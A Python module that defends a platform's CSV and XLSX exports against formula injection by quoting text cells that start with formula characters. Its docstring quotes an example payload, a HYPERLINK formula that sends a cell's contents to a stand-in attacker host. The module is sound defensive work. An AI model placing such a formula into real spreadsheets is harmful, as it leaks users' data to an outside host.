"""Cells of the spreadsheets the platform writes (CSV and XLSX): text always stays text.

Names, notes and titles come from people; a spreadsheet program would run the ones that look like formulas
(``=HYPERLINK("http://attacker.example/?x="&A1;"Click")``). Every writer of a CSV or XLSX file passes its text
through :func:`safe_text` (or uses :class:`CsvWriter`, :class:`CsvDictWriter`, :func:`xlsx_cell`), following
OWASP's advice on CSV injection: text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets
a leading single quote, so it is shown, never evaluated. Only text is touched: numbers (negative ones too),
dates and booleans keep their type; in XLSX, text is always a string cell, never a formula.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import IO, Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Characters XML 1.0 cannot carry: openpyxl refuses them (IllegalCharacterError) and the export would fail.
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def safe_text(text: str) -> str:
    """``text`` as a spreadsheet cell shows it and never runs it: a leading ``'`` before a formula start."""
    return "'" + text if text.startswith(FORMULA_START) else text


def safe_value(value: Any) -> Any:
    """A cell's value: text made safe by :func:`safe_text`; numbers, dates, booleans and ``None`` unchanged."""
    return safe_text(value) if isinstance(value, str) else value


class CsvWriter:
    """``csv.writer`` whose rows have their text cells made safe (numbers are written as numbers)."""

    def __init__(self, out: IO[str], **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_value(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class CsvDictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose text cells (and header) are made safe."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: safe_value(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)

    def writeheader(self) -> Any:
        return self.writerow(dict(zip(self.fieldnames, self.fieldnames, strict=True)))


def xlsx_cell(sheet: Any, value: Any, number_format: str | None = None) -> Any:
    """An openpyxl write-only cell for ``value``: text made safe, stored as a string cell (data type ``s``,
    never a formula nor an error code), characters XML cannot hold replaced by U+FFFD; other values typed."""
    # why: openpyxl takes 0.15 s to import: only XLSX exports need it
    from openpyxl.cell import WriteOnlyCell

    if isinstance(value, str):
        cell = WriteOnlyCell(sheet, value=_NOT_IN_XML.sub("\ufffd", safe_text(value)))
        cell.data_type = "s"
        return cell
    cell = WriteOnlyCell(sheet, value=value)
    if number_format and value is not None:
        cell.number_format = number_format
    return cell
